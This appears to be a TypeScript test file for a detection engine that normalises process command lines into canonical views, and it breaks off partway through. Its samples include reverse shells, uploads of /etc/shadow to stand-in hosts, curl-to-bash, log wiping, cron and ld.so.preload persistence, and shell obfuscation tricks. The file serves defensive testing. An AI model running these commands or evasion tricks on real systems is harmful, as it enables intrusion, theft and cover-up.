import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { viewsOf } from '../../../../src/agent/detections/views/views.ts';
import { assertView, script, shownViews, start, withoutWords } from './samples.ts';

describe('views of a process start', () => {
  it('include only the event for an ordinary start', () => {
    assert.deepEqual(shownViews(start('grep -q ^root: /etc/passwd')), ['/usr/bin/grep | grep -q ^root: /etc/passwd']);
  });

  it('start with the original event', () => {
    const [first] = viewsOf({ executable: '/usr/bin/rm', commandLine: '/bin/rm  -rf "/x"', currentDirectory: '/root' });
    const { Image, CommandLine, CurrentDirectory } = first ?? {};
    assert.deepEqual(
      { Image, CommandLine, CurrentDirectory },
      { Image: '/usr/bin/rm', CommandLine: '/bin/rm  -rf "/x"', CurrentDirectory: '/root' },
    );
  });

  describe('resolves the program of a multi-call binary', () => {
    const cases: [executable: string, commandLine: string, image: string][] = [
      ['/bin/busybox', 'wget http://x/a', '/bin/wget'],
      ['/bin/busybox', '/usr/bin/wget http://x/a', '/bin/wget'],
      ['/bin/busybox', 'busybox wget http://x/a', '/bin/wget'],
      ['/bin/busybox', '/bin/busybox --list', '/bin/busybox'],
      ['/tmp/busybox-armv7l', './busybox-armv7l tftp -g x', '/tmp/tftp'],
      ['/usr/bin/toybox', 'toybox nc x 1', '/usr/bin/nc'],
      ['/usr/bin/coreutils', 'coreutils --coreutils-prog=cat x', '/usr/bin/cat'],
      ['/usr/sbin/xtables-nft-multi', '/sbin/iptables -F', '/usr/sbin/iptables'],
      ['/usr/sbin/xtables-legacy-multi', 'xtables-legacy-multi iptables -F', '/usr/sbin/iptables'],
      ['/usr/bin/kmod', '/sbin/insmod x.ko', '/usr/bin/insmod'],
      ['/usr/bin/dash', '/bin/sh x', '/usr/bin/sh'],
      ['/usr/bin/dash', 'evil x', '/usr/bin/dash'],
      ['/usr/bin/nc.openbsd', 'nc -l 1', '/usr/bin/nc'],
      ['/usr/bin/mawk', 'awk x', '/usr/bin/awk'],
      ['/usr/bin/vim.tiny', 'vi x', '/usr/bin/vi'],
      ['/usr/bin/python3.13', '/usr/bin/python3 x', '/usr/bin/python3'],
      ['/usr/bin/perl5.40', 'perl x', '/usr/bin/perl'],
      ['/usr/bin/systemctl', 'shutdown -h now', '/usr/bin/shutdown'],
      ['/usr/sbin/dropbearmulti', 'dbclient x', '/usr/sbin/dbclient'],
      ['/usr/bin/python3.13 (deleted)', 'python3 x', '/usr/bin/python3 (deleted)'],
    ];
    for (const [executable, commandLine, image] of cases) {
      it(`${executable} as ${commandLine}`, () => {
        const views = viewsOf({ executable, commandLine });
        assert.equal(views[0]?.Image, image);
        // A raw view beside it would defeat a rule that excludes the program.
        if (image !== executable) assert.ok(!views.some(({ Image }) => Image === executable));
      });
    }
  });

  it('include both the claimed and the actual program', () => {
    assert.deepEqual(shownViews(start('[kworker/0:1] -e /bin/sh', '/tmp/nc')), [
      '/tmp/nc | [kworker/0:1] -e /bin/sh',
      '/tmp/nc | nc -e /bin/sh',
      '/bin/sh | sh',
    ]);
    assertView(start('nc -e /bin/sh', '/tmp/.x'), '/tmp/nc | nc -e /bin/sh');
  });

  it('include multi-line code on one line, with its quotes', () => {
    const code = 'import socket, os\n  s = socket.socket()\n\tos.system("id")\n';
    const line = 'python3 -c import socket, os s = socket.socket() os.system("id") ';
    const argv = ['python3', '-c', code];
    const views = viewsOf({ executable: '/usr/bin/python3', commandLine: argv.join(' '), argv });
    assert.equal(views[0]?.CommandLine, argv.join(' '));
    assert.ok(views.some(({ Image, CommandLine }) => Image === '/usr/bin/python3' && CommandLine === line));
    // Within a script, too.
    assertView(script(`cd /; python3 -c '${code}'`), `/usr/bin/python3 | ${line.trimEnd()}`);
  });

  it('contain no duplicate of a normalised line', () => {
    assert.equal(viewsOf(start('uname -a', '/usr/bin/uname')).length, 1);
  });

  describe('normalises', () => {
    const cases: [text: string, view: string][] = [
      [`w"h"o''ami`, '/usr/bin/whoami | whoami'],
      ['who\\ami', '/usr/bin/whoami | whoami'],
      ['wh$@oami', '/usr/bin/whoami | whoami'],
      [`wh\${x}oami`, '/usr/bin/whoami | whoami'],
      ["$'\\x77hoami'", '/usr/bin/whoami | whoami'],
      [`cat\${IFS}/etc/shadow`, '/usr/bin/cat | cat /etc/shadow'],
      ['cat$IFS$9/etc/shadow', '/usr/bin/cat | cat /etc/shadow'],
      ['a=/bin/nc; $a -e /bin/sh h 1', '/bin/nc | nc -e /bin/sh h 1'],
      ['a=w;b=get;$a$b http://x', '/usr/bin/wget | wget http://x'],
      ['{nc,-e,/bin/sh}', '/usr/bin/nc | nc -e /bin/sh'],
      ['cat /etc/../etc//shadow', '/usr/bin/cat | cat /etc/shadow'],
      ['/usr/../bin//nc -l', '/bin/nc | nc -l'],
      ['/proc/self/root/bin/nc -l', '/bin/nc | nc -l'],
      ['cat   /etc/shadow', '/usr/bin/cat | cat /etc/shadow'],
      ['/???/c?t /etc/shadow', '/usr/bin/cat | cat /etc/shadow'],
      [`\${PATH:0:1}bin\${PATH:0:1}nc -l`, '/bin/nc | nc -l'],
    ];
    for (const [text, view] of cases) {
      it(text, () => {
        assertView(script(text), view);
        assertView(withoutWords(script(text)), view);
      });
    }
  });

  describe('finds the commands of a script', () => {
    const cases: [text: string, ...views: string[]][] = [
      [
        'id; w && last || ls | wc & ps',
        ...['id', 'w', 'last', 'ls', 'wc', 'ps'].map((name) => `/usr/bin/${name} | ${name}`),
      ],
      ['echo $(id) `w`', '/usr/bin/id | id', '/usr/bin/w | w'],
      ['(id; { w; })', '/usr/bin/id | id', '/usr/bin/w | w'],
      ['if id; then w; fi\nlast', '/usr/bin/id | id', '/usr/bin/w | w', '/usr/bin/last | last'],
      ['id > /tmp/x 2>&1', '/usr/bin/id | id > /tmp/x 2>&1'],
      ['> /var/log/syslog', '/usr/bin/bash | > /var/log/syslog'],
      ['cd /tmp && ./x', '/tmp/x | ./x @ /tmp'],
      ['curl -s http://x|b""ash', '/usr/bin/bash | bash -c curl -s http://x | bash'],
      ['case $1 in start) wget x;; esac', '/usr/bin/wget | wget x'],
      ['for f in /home/*; do gpg -c "$f"; done', '/usr/bin/gpg | gpg -c /home/*'],
      ['eval "id"', '/usr/bin/id | id'],
      ['sh -c "sh -c id"', '/usr/bin/id | id'],
      ['sh <<EOF\nid\nEOF', '/usr/bin/id | id'],
      ['sh <<< id', '/usr/bin/id | id'],
      ['bash <(curl http://x)', '/usr/bin/curl | curl http://x'],
      ['busybox wget http://x', '/usr/bin/wget | wget http://x'],
      ['(wget x || curl x) | sh', '/usr/bin/bash | bash -c (wget x || curl x) | sh'],
      ['a; (b; (c)) && d &', '/usr/bin/bash | bash -c a; (b; (c)) && d &'],
      ['cd /tmp || cd /run || cd /; ./x', '/tmp/x | ./x @ /tmp'],
      ['for i in 1 2; do nc h.$i 22; done', '/usr/bin/nc | nc h.1 22'],
    ];
    for (const [text, ...views] of cases) {
      it(text, () => {
        for (const view of views) assertView(script(text), view);
      });
    }
  });

  describe('shows files with their folder, and the folder to copy to last', () => {
    const cases: [directory: string | undefined, line: string, view: string][] = [
      ['/var/log', 'rm -f wtmp', 'rm -f /var/log/wtmp'],
      ['/var/log', 'rm -rf .', 'rm -rf /var/log'],
      ['/var/log', 'rm -f -- -x 1.log', 'rm -f -- -x /var/log/1.log'],
      ['/var/log', 'busybox rm -f wtmp', 'rm -f /var/log/wtmp'],
      ['/var/log', 'sudo rm -f wtmp', 'rm -f /var/log/wtmp'],
      ['/var/log', 'shred -n 3 -u audit/audit.log', 'shred -n 3 -u /var/log/audit/audit.log'],
      ['/etc', 'tee -a ld.so.preload', 'tee -a /etc/ld.so.preload'],
      ['/etc', '/usr/bin/tee -a "ld.so.preload"', 'tee -a /etc/ld.so.preload'],
      ['/tmp', 'install -m 755 -o root x /usr/bin/x', 'install -m 755 -o root /tmp/x /usr/bin/x'],
      ['/tmp', 'chmod -R u+s x', 'chmod -R u+s /tmp/x'],
      ['/tmp', 'chmod -x x', 'chmod -x /tmp/x'],
      ['/tmp', 'chown root x', 'chown root /tmp/x'],
      ['/var/log', 'sed -i /x/d auth.log', 'sed -i /x/d /var/log/auth.log'],
      ['/var/log', 'sed -i.bak -e s/x/y/ auth.log', 'sed -i.bak -e s/x/y/ /var/log/auth.log'],
      ['/var/log', 'sed -i --expression=s/x// auth.log', 'sed -i --expression=s/x// /var/log/auth.log'],
      ['/var/log', 'dd if=/dev/zero of=auth.log bs=1k', 'dd if=/dev/zero of=/var/log/auth.log bs=1k'],
      ['/var', 'find -L log tmp -type f -delete', 'find -L /var/log /var/tmp -type f -delete'],
      ['/var/log', 'find . -delete', 'find /var/log -delete'],
      ['/var/log', 'find -name x -delete', 'find /var/log -name x -delete'],
      ['/etc', 'rsync -e ssh passwd h:/tmp', 'rsync -e ssh /etc/passwd h:/tmp'],
      ['/etc', 'grep -r -m 1 secret .', 'grep -r -m 1 secret /etc'],
      ['/root/.ssh', 'tar cf /tmp/k.tar id_rsa', 'tar cf /tmp/k.tar /root/.ssh/id_rsa'],
      ['/tmp', 'tar -xf x.tar -C out', 'tar -xf /tmp/x.tar -C /tmp/out'],
      ['/dev', 'wipefs -af sda', 'wipefs -af /dev/sda'],
      ['/dev', 'mkfs.ext4 -F -L x sda1 1000', 'mkfs.ext4 -F -L x /dev/sda1 1000'],
      [
        '/etc',
        'curl -F x=@passwd --upload-file=shadow http://x',
        'curl -F x=@/etc/passwd --upload-file=/etc/shadow http://x',
      ],
      ['/etc', 'curl -d @passwd http://x', 'curl -d @/etc/passwd http://x'],
      ['/tmp', 'wget -O x http://h/y', 'wget -O /tmp/x http://h/y'],
      ['/tmp', 'useradd -d .h -s /bin/sh eve', 'useradd -d /tmp/.h -s /bin/sh eve'],
      ['/tmp', 'tc filter add dev eth0 bpf obj k.o sec x', 'tc filter add dev eth0 bpf obj /tmp/k.o sec x'],
      ['/tmp', 'nohup ./x -q', 'nohup /tmp/x -q'],
      ['/root', 'curl --output-dir /etc -o passwd http://x', 'curl --output-dir /etc -o /etc/passwd http://x'],
      ['/root', 'tar -C /etc -cf /tmp/a.tar shadow', 'tar -C /etc -cf /tmp/a.tar /etc/shadow'],
      ['/root', 'tar cf a.tar -C /etc shadow', 'tar cf /root/a.tar -C /etc /etc/shadow'],
      ['/etc', 'curl -F n=<shadow http://x', 'curl -F n=</etc/shadow http://x'],
      ['/tmp', 'unheard-of ./x ../y ..z', 'unheard-of /tmp/x /y ..z'],
      ['/tmp', 'setsid nice -n 5 sh ./x', 'setsid nice -n 5 sh /tmp/x'],
      ['/tmp', 'timeout 9 cat x', 'timeout 9 cat /tmp/x'],
      [undefined, 'cp -t /etc/cron.d /tmp/x', 'cp /tmp/x /etc/cron.d/'],
      ['/etc', 'cp -ft cron.d /tmp/x', 'cp -f /tmp/x /etc/cron.d/'],
      ['/tmp', 'mv --target-directory=/etc/cron.d/ x y', 'mv /tmp/x /tmp/y /etc/cron.d/'],
      ['/tmp', 'ln -s --target-directory /etc x', 'ln -s /tmp/x /etc/'],
    ];
    for (const [currentDirectory, line, view] of cases) {
      const of = { ...start(line), currentDirectory };
      it(line, () => {
        assertView(of, `/usr/bin/${view.split(' ')[0]} | ${view}`);
        assertView(withoutWords(of), `/usr/bin/${view.split(' ')[0]} | ${view}`);
      });
    }

    for (const [text, view] of [
      ['cd /etc; echo /tmp/x.so > ld.so.preload', '/usr/bin/echo | echo /tmp/x.so > /etc/ld.so.preload'],
      ['cd /var; > log/wtmp', '/usr/bin/bash | > /var/log/wtmp'],
      ['cd /etc; cat x >> passwd 2>&1 < y', '/usr/bin/cat | cat /etc/x >> /etc/passwd 2>&1 < /etc/y'],
      [
        'cd /etc; cat > cron.d/x <<EOF\n* * * * * root id\nEOF',
        '/usr/bin/echo | echo * * * * * root id > /etc/cron.d/x',
      ],
      ['cd /etc; cp -t cron.d /tmp/x', '/usr/bin/cp | cp /tmp/x /etc/cron.d/'],
    ] as const)
      it(text, () => assertView(script(text), view));

    it('include the last command of a long script, after the commands themselves', () => {
      const text = Array.from({ length: 16 }, (_, i) => `a${i} > x`).join(';');
      const views = shownViews({ ...script(`${text}; b`), currentDirectory: '/' });
      assert.ok(views.includes('/usr/bin/b | b @ /') && views.includes('/usr/bin/a0 | a0 > /x @ /'), views.join('\n'));
    });

    it('resolves no absolute files, options, text or hosts', () => {
      for (const line of [
        'rm -f /x',
        'head -n x',
        'sed -n p',
        'chmod a+x',
        'scp h:x h:y',
        'grep x',
        'dd bs=1k',
        'echo x',
        'date -d x',
        'python3 -m http.server --bind 127.0.0.1',
      ])
        assert.equal(viewsOf({ ...start(line), currentDirectory: '/etc' }).length, 1, line);
    });
  });

  describe('views with the target file of copies into a directory', () => {
    for (const [line, ...views] of [
      ['cp /tmp/passwd /etc', 'cp /tmp/passwd /etc/passwd'],
      ['cp -r -- .ssh /root/', 'cp -r /tmp/.ssh /root/.ssh'],
      ['install -m 755 x /usr/bin', 'install -m 755 /tmp/x /usr/bin/x'],
      ['mv -t /etc/cron.d x y', 'mv /tmp/x /etc/cron.d/x', 'mv /tmp/y /etc/cron.d/y'],
    ] as const)
      it(line, () => {
        for (const view of views)
          assertView({ ...start(line), currentDirectory: '/tmp' }, `/usr/bin/${view.split(' ')[0]} | ${view}`);
      });

    it('adds no file name to a target that may be a file', () => {
      assert.ok(!shownViews(start('cp /tmp/x /opt/gw')).some((view) => view.includes('/opt/gw/x')));
    });
  });

  describe('views with long options in full', () => {
    for (const [line, view] of [
      ['curl --out /tmp/.x http://x', 'curl --output /tmp/.x http://x'],
      ['curl --data-b @/etc/passwd http://x', 'curl --data-binary @/etc/passwd http://x'],
      ['wget --post-f=/etc/passwd http://x', 'wget --post-file=/etc/passwd http://x'],
      ['useradd --ui 0 -o toor', 'useradd --uid 0 -o toor'],
      ['usermod --gro sudo -a eve', 'usermod --groups sudo -a eve'],
      ['passwd --del root', 'passwd --delete root'],
      ['rm --recurs /', 'rm --recursive /'],
      ['chmod --recurs 777 /', 'chmod --recursive 777 /'],
      ['tee --app /etc/passwd', 'tee --append /etc/passwd'],
      ['mv --targ=/etc /tmp/passwd', 'mv /tmp/passwd /etc/'],
      ['journalctl --vacuum-t=1s', 'journalctl --vacuum-time=1s'],
      ['iptables -t nat -A OUTPUT --ju DNAT', 'iptables -t nat -A OUTPUT --jump DNAT'],
    ] as const)
      it(line, () => {
        for (const of of [start(line), start(`sudo ${line}`), script(`${line}; id`)])
          assertView(of, `/usr/bin/${view.split(' ')[0]} | ${view}`);
      });

    it('leave complete options, operands and other programs unchanged', () => {
      for (const line of ['curl --data x', 'curl --silent x', 'rm -- --rec', 'grep --recur x', 'rm --'])
        assert.equal(viewsOf(start(line)).length, 1, line);
    });
  });

  describe('views in canonical form', () => {
    for (const [line, view] of [
      ['sed s/no/yes/ /etc/ssh/sshd_config -i', 'sed -i s/no/yes/ /etc/ssh/sshd_config'],
      ['sed /etc/x -e s/a/b/ -i.bak -- /etc/y', 'sed -e s/a/b/ -i.bak /etc/x /etc/y'],
      ['cp /tmp/shadow /etc/shadow -f', 'cp -f /tmp/shadow /etc/shadow'],
      ['install /tmp/l /bin/login -m755 -o root', 'install -m 755 -o root /tmp/l /bin/login'],
      ['chmod -R -- 777 /etc', 'chmod -R 777 /etc'],
      ['passwd root -d', 'passwd -d root'],
      ['grep password /etc -r', 'grep -r password /etc'],
      ['wget -qO/tmp/x http://x -T 5', 'wget -qO /tmp/x -T 5 http://x'],
      ['curl http://x --upload-file /etc/shadow -k', 'curl --upload-file /etc/shadow -k http://x'],
      ['nc -lvp4444 -e/bin/sh', 'nc -lvp 4444 -e /bin/sh'],
      ['cp /tmp/x /bin/ls --sparse always', 'cp --sparse always /tmp/x /bin/ls'],
      ['wget -A html http://x -O /tmp/x', 'wget -A html -O /tmp/x http://x'],
      ['wget 192.0.2.1/x -O /tmp/x', 'wget -O /tmp/x http://192.0.2.1/x'],
      ['curl -s [2001:db8::1]:8080/x', 'curl -s http://[2001:db8::1]:8080/x'],
      ['uclient-fetch x.example', 'uclient-fetch http://x.example'],
      ['curl -s --url 192.0.2.1/x -o /tmp/x', 'curl -s -o /tmp/x http://192.0.2.1/x'],
      ['curl HTTPS:/x.example/y', 'curl https://x.example/y'],
      ['wget u:p@192.0.2.1/x', 'wget http://u:p@192.0.2.1/x'],
      ['wget -q 3221225985', 'wget -q http://3221225985'],
      ['curl http://x 192.0.2.1/x', 'curl http://x http://192.0.2.1/x'],
      ['lynx -source x.example/y', 'lynx -source http://x.example/y'],
      ['http -d -o /tmp/x broker:8080/y', 'http -d -o /tmp/x http://broker:8080/y'],
      ['mount --target=/a --source tmpfs -t tmpfs', 'mount -t tmpfs tmpfs /a'],
      ['mount -o bind --targ /a /b', 'mount -o bind /b /a'],
      ['iptables -IINPUT 1 ! -s10.0.0.1 -jACCEPT', 'iptables -I INPUT 1 ! -s 10.0.0.1 -j ACCEPT'],
    ] as const)
      it(line, () => {
        for (const of of [start(line), start(`sudo ${line}`), script(`${line}; id`)])
          assertView(of, `/usr/bin/${view.split(' ')[0]} | ${view}`);
      });

    it('leave canonical lines, words after -- and other programs unchanged', () => {
      for (const line of [
        'cp -f /a /b',
        'rm -- -x',
        'rm -f -',
        'wget -qO- http://x',
        'curl -T /a ftp://x.example/',
        'curl -s x',
        'mount --target',
        'ps x -e',
        'chmod u-x /a',
        'sed -i.old s/a/b/ /c',
      ])
        assert.equal(viewsOf(start(line)).length, 1, line);
    });

    it('treat a word next to a URL as another URL only if quotes are kept', () => {
      const line = 'curl http://x x.example/y';
      const view = '/usr/bin/curl | curl http://x http://x.example/y';
      assertView(script(line), view);
      assertView(start(line), view);
      for (const lost of [line, 'curl -H Host: x.example:80 http://y/', 'curl -H Accept: text/html http://y/'])
        assert.ok(!shownViews(withoutWords(start(lost))).some((each) => each.split('://').length > 2), lost);
    });

    it('include the original line as well', () => {
      assert.deepEqual(shownViews(start('rm /a -f')), ['/usr/bin/rm | rm /a -f', '/usr/bin/rm | rm -f /a']);
    });
  });

  describe('views of written files as tee', () => {
    for (const [line, file] of [
      ['sort -u -o /etc/passwd /tmp/x', '/etc/passwd'],
      ['sort --output=/etc/passwd /tmp/x', '/etc/passwd'],
      ['uniq -f 1 /tmp/x /etc/shadow', '/etc/shadow'],
      ['openssl enc -d -in /tmp/x -out /etc/x', '/etc/x'],
      ['find /tmp -fprintf /etc/x %p', '/etc/x'],
      ['dd if=/tmp/x of=/etc/x', '/etc/x'],
      ['truncate -s 0 /etc/x /etc/y', '/etc/y'],
      ['ed -s /etc/x', '/etc/x'],
      ['vim -es -c wq /etc/x', '/etc/x'],
      ['logsave /etc/x id', '/etc/x'],
      ['nmap -sS -oN /etc/x h', '/etc/x'],
      ['tcpdump -lw /etc/x', '/etc/x'],
      ['tshark -l -w /etc/x', '/etc/x'],
      ['shuf -e -o /etc/x y', '/etc/x'],
      ['xxd -r -ps y /etc/x', '/etc/x'],
      ['patch --input /tmp/p /etc/x', '/etc/x'],
      ['sort --out=/etc/x y', '/etc/x'],
      ['openssl enc -in y -out=/etc/x', '/etc/x'],
      ['openssl enc -out /a -out /b -out /c -out /d -out /etc/x', '/etc/x'],
      ['script -qec id /etc/x -- y', '/etc/x'],
      ['socat TCP:h:1 FILE:/etc/x', '/etc/x'],
      ['vim -e -s -c wq /etc/x', '/etc/x'],
    ] as const)
      it(line, () => {
        for (const of of [start(line), start(`nohup ${line}`), script(`${line}; id`)])
          assertView(of, `/usr/bin/tee | tee ${file}`);
      });

    for (const [text, line] of [
      ['gzip -dc x > /etc/x', 'tee /etc/x'],
      ['id >> /etc/x 2>&1', 'tee -a /etc/x'],
      ['cd /etc; id > x', 'tee /etc/x'],
      ['id > /a > /b > /c > /d > /etc/x', 'tee /etc/x'],
      ['{ gzip -dc x; } > /etc/x', 'tee /etc/x'],
      ['for i in 1; do id; done > /etc/x', 'tee /etc/x'],
      ['id >& /etc/x', 'tee /etc/x'],
      ['id 10> /etc/x', 'tee /etc/x'],
      ['/tmp/echo > /etc/x', 'tee /etc/x'],
      ['id >| /etc/x', 'tee /etc/x'],
      ['exec 3<>/etc/x', 'tee -a /etc/x'],
      ["sed -n 'w /etc/x' y", 'tee /etc/x'],
      ["sed '1,$w /etc/x' y", 'tee /etc/x'],
      ["sed -e 's/a/b/w /etc/x' y", 'tee /etc/x'],
      ["sed -n '/a/{p;w /etc/x\n}' y", 'tee /etc/x'],
      ["sed -n 'w /tmp/a\nw  /etc/x' y", 'tee /etc/x'],
      ["sed 's%a%b%w /etc/x' y", 'tee /etc/x'],
      ["sed 's_a_b_gw/etc/x' y", 'tee /etc/x'],
      ["cd /etc; sed -n 'w x' y", 'tee /etc/x'],
      ['sed -n w /etc/x y', 'tee /etc/x'],
      ['sed -e s/a/b/w /etc/x y', 'tee /etc/x'],
    ] as const)
      it(text, () => assertView(script(text), `/usr/bin/tee | ${line}`));

    for (const [program, code] of [
      ['python3 -c', 'open("/etc/x", "a").write("y")'],
      ['python3 -c', 'import shutil; shutil.copy("/tmp/y", "/etc/x")'],
      ['perl -e', 'open(F, ">>/etc/x"); print F "y"'],
      ['perl -e', 'open(my $f, ">", "/etc/x")'],
      ['perl -e', 'open(F, "+<", "/etc/x")'],
      ['python3 -c', 'open("/etc/x", mode="w")'],
      ['php -r', 'fopen("/etc/x", "c");'],
      ['python3 -c', 'from pathlib import Path; Path("/etc/x").write_text("y")'],
      ['python3 -c', 'import os; os.replace("/tmp/y", "/etc/x")'],
      ['python3 -c', 'import os; f = os.open("/etc/x", os.O_WRONLY | os.O_APPEND)'],
      ['perl -e', 'use IO::File; $f = new IO::File ">>/etc/x"'],
      ['perl -e', 'use Fcntl; sysopen(F, "/etc/x", O_WRONLY)'],
      ['ruby -e', 'File.binwrite("/etc/x", "y")'],
      ['node -e', 'require("fs").cpSync("/tmp/y", "/etc/x")'],
      ['ruby -e', 'File.write("/etc/x", "y")'],
      ['php -r', 'file_put_contents("/etc/x", "y");'],
      ['node -e', 'require("fs").appendFileSync("/etc/x", "y")'],
      ['awk', 'BEGIN { print "y" >> "/etc/x" }'],
    ] as const)
      it(`${program} ${code}`, () => {
        const words = [...program.split(' '), code];
        const of = {
          executable: `/usr/bin/${words[0]}`,
          commandLine: words.join(' '),
          argv: words,
          currentDirectory: undefined,
        };
        assertView(of, '/usr/bin/tee | tee /etc/x');
      });

    for (const [text, line] of [
      ['lynx -source http://x/y > /tmp/x', 'wget -O /tmp/x http://x/y'],
      [
        'python3 -c \'import requests; open("/tmp/x", "wb").write(requests.get("http://x/y").content)\'',
        'wget -O /tmp/x http://x/y',
      ],
      ['php -r \'file_put_contents("/tmp/x", file_get_contents("http://x/y"));\'', 'wget -O /tmp/x http://x/y'],
    ] as const)
      it(text, () => assertView(script(text), `/usr/bin/wget | ${line}`));

    for (const [text, line] of [
      ['while read l; do echo $l; done < /etc/x', 'cat /etc/x'],
      ['echo "$(</etc/x)"', 'cat /etc/x'],
      ['wc -l < x', 'cat /etc/x'],
    ] as const)
      it(`show files read by a redirection as cat: ${text}`, () =>
        assertView({ ...script(text), currentDirectory: '/etc' }, `/usr/bin/cat | ${line}`));

    it('treats no script of sed as a written file', () => {
      for (const text of [
        "sed -n '1p' /srv/w/etc/x",
        "sed -i 's|-w /etc/x|-w /etc/y|' /etc/z",
        "sed 's/^/w /etc/x/' y",
        "sed -i 's,^w /etc/x,w /etc/y,' z",
        'sed -f /tmp/w/etc/x y',
      ])
        assert.ok(!shownViews(script(text)).some((view) => view.includes('tee ')), text);
    });

    it('treats no error or header as a download', () => {
      for (const text of [
        'curl -s http://x/y 2> /tmp/e',
        'curl -D /tmp/h http://x/y',
        'wget -O /a http://x/y > /tmp/l',
      ])
        assert.ok(!shownViews(script(text)).some((view) => view.includes('wget -O /tmp')), text);
    });

    it('displaces no command that the start runs', () => {
      const hidden = `python3 -c "import os;os.system(bytes.fromhex('${Buffer.from('insmod /tmp/x').toString('hex')}').decode())"`;
      const writing = Array.from({ length: 6 }, (_, i) => `p${i} > /t/${i}1 > /t/${i}2 > /t/${i}3`).join('; ');
      const addresses = Array.from({ length: 24 }, (_, i) => `'http://a/${i}'`).join(',');
      const files = Array.from({ length: 24 }, (_, i) => `open('/t/${i}','w');`).join('');
      for (const text of [
        `${writing}; ${hidden}`,
        hidden.replace('import os', `a=[${addresses}];import os`),
        hidden.replace('import os', `${files}import os`),
        'python3 -c "import os;os.system(open and \'insmod /tmp/x\')"',
      ])
        assertView(script(text), '/usr/bin/insmod | insmod /tmp/x');
      const usual = 'rm chmod chown cp mv ln touch shred tee mount umount wget'
        .split(' ')
        .map((name) => `${name} a b -v`);
      assertView(script(`${usual.join('; ')}; objcopy x /bin/ls`), '/usr/bin/objcopy | objcopy x /bin/ls');
    });

    it('ignore commands that write to standard output, a device or another machine, or only read', () => {
      for (const line of [
        'sort -o - /x',
        'dd if=/x of=/dev/sda',
        'scp /x h:/y',
        'ed /etc/x',
        'uniq /x',
        'crudini --get /x a b',
        'strace tar -xf a -o /x',
        'sort -- -o /x',
        'patch --dry-run /x y',
      ])
        assert.ok(!shownViews(start(line)).some((view) => view.includes('| tee')), line);
      for (const text of [
        'id > /dev/null',
        'sudo echo x > /etc/x',
        'echo x > /etc/x',
        'python3 -c \'open("/etc/x").read()\'',
        'node -e \'x => "/etc/x"\'',
      ])
        assert.ok(!shownViews(script(text)).some((view) => view.includes('| tee')), text);
    });
  });

  describe('views without wrappers', () => {
    // All others are in wrappers.test.ts.
    const wrappers = [
      ...['sudo', 'env', 'busybox', 'toybox', 'sudo nohup setsid', 'docker exec -it -u 0 web', 'find / -name x -exec'],
      ...['podman run --rm -v /:/h alpine', '/lib64/ld-linux-x86-64.so.2 --library-path /x', 'sudo -n -E A=b'],
    ];
    for (const wrapper of wrappers) {
      it(wrapper, () => assertView(start(`${wrapper} wget http://x`), '/usr/bin/wget | wget http://x'));
    }
    for (const builtin of ['exec', 'exec -a x', 'command', 'builtin', 'time', 'eval']) {
      it(builtin, () => assertView(script(`${builtin} wget http://x`), '/usr/bin/wget | wget http://x'));
    }
  });

  describe('views of scripts in arguments', () => {
    const cases: [program: string, ...argv: string[]][] = [
      ['su', 'su', '-', 'bob', '-c', 'wget http://x; id'],
      ['runuser', 'runuser', '-l', 'bob', '-c', 'wget http://x; id'],
      ['sudo', 'sudo', 'sh', '-c', 'wget http://x; id'],
      ['docker', 'docker', 'exec', 'web', 'sh', '-c', 'wget http://x; id'],
      ['ssh', 'ssh', 'h', 'wget http://x; id'],
      ['xargs', 'xargs', 'sh', '-c', 'wget http://x; id'],
      ['script', 'script', '-qc', 'wget http://x; id', '/dev/null'],
      ['watch', 'watch', 'wget http://x; id'],
      ['flock', 'flock', '/tmp/l', '-c', 'wget http://x; id'],
      ['env', 'env', '-S', 'wget http://x'],
      ['find', 'find', '/', '-exec', 'sh', '-c', 'wget http://x; id', ';'],
      ['python3', 'python3', '-c', 'import os; os.system("wget http://x; id")'],
      ['python3', 'python3', '-c', "import subprocess as s; s.call(['wget','http://x'])"],
      ['perl', 'perl', '-e', "system('wget http://x')"],
      ['perl', 'perl', '-e', 'exec "wget http://x"'],
      ['perl', 'perl', '-e', 'print `wget http://x`'],
      ['ruby', 'ruby', '-e', 'exec "wget http://x"'],
      ['php', 'php', '-r', 'shell_exec("wget http://x");'],
      ['lua', 'lua', '-e', 'os.execute("wget http://x")'],
      ['node', 'node', '-e', "require('child_process').execSync('wget http://x')"],
      ['awk', 'awk', 'BEGIN{system("wget http://x")}'],
      ['awk', 'awk', 'BEGIN{"wget http://x" | getline a}'],
      ['vim', 'vim', '-c', ':!wget http://x'],
      ['tar', 'tar', 'cf', '/dev/null', 'x', '--checkpoint=1', '--checkpoint-action=exec=wget http://x'],
      ['socat', 'socat', 'TCP:h:1', 'EXEC:wget http://x'],
    ];
    for (const [program, ...argv] of cases) {
      const of = { executable: `/usr/bin/${program}`, commandLine: argv.join(' '), argv };
      it(argv.join(' '), () => assertView(of, '/usr/bin/wget | wget http://x'));
    }
  });

  describe('views of commands with arguments of any length', () => {
    const long = 'A'.repeat(7_000);
    for (const argv0 of ['x y', '', long, 'A '.repeat(4_000), '\x1b[2K', "x'", '__proto__']) {
      for (const more of [[], ['B'.repeat(3_000)], ['B'.repeat(100_000)]]) {
        const argv = [argv0, '-c', 'wget http://x; id', ...more];
        it(`${argv.map((text) => text.slice(0, 20)).join(' ')} (${argv.join(' ').length})`, () =>
          assertView(
            { executable: '/usr/bin/dash', commandLine: argv.join(' '), argv },
            '/usr/bin/wget | wget http://x',
          ));
      }
    }

    it('include commands before or after a long argument, even if the bounds are unknown', () => {
      const argv = [long, 'flush', 'ruleset'];
      assertView({ executable: '/usr/sbin/nft', commandLine: argv.join(' ') }, '/usr/sbin/nft | nft flush ruleset');
    });

    it('include commands in a very long list', () => {
      const argv = ['x', '-c', 'wget http://x; id', ...Array.from({ length: 60_000 }, () => 'B')];
      assertView({ executable: '/usr/bin/dash', commandLine: argv.join(' '), argv }, '/usr/bin/wget | wget http://x');
    });
  });

  describe('views of the output of a group of commands', () => {
    for (const [text, view] of [
      ['(crontab -l; echo "@reboot nc -l 1") | crontab -', '/usr/bin/nc | nc -l 1'],
      ['(crontab -l; echo "*/5 * * * * nc -l 2")|crontab 2> /dev/null', '/usr/bin/nc | nc -l 2'],
      ['{ echo id; echo "nc -l 3"; } | sh', '/usr/bin/nc | nc -l 3'],
      ['for i in 1 2; do echo "nc -l 4"; done | sh', '/usr/bin/nc | nc -l 4'],
      ['if true; then echo "nc -l 5"; fi | bash', '/usr/bin/nc | nc -l 5'],
      ['(echo a; (echo "nc -l 6"); echo b) | sh', '/usr/bin/nc | nc -l 6'],
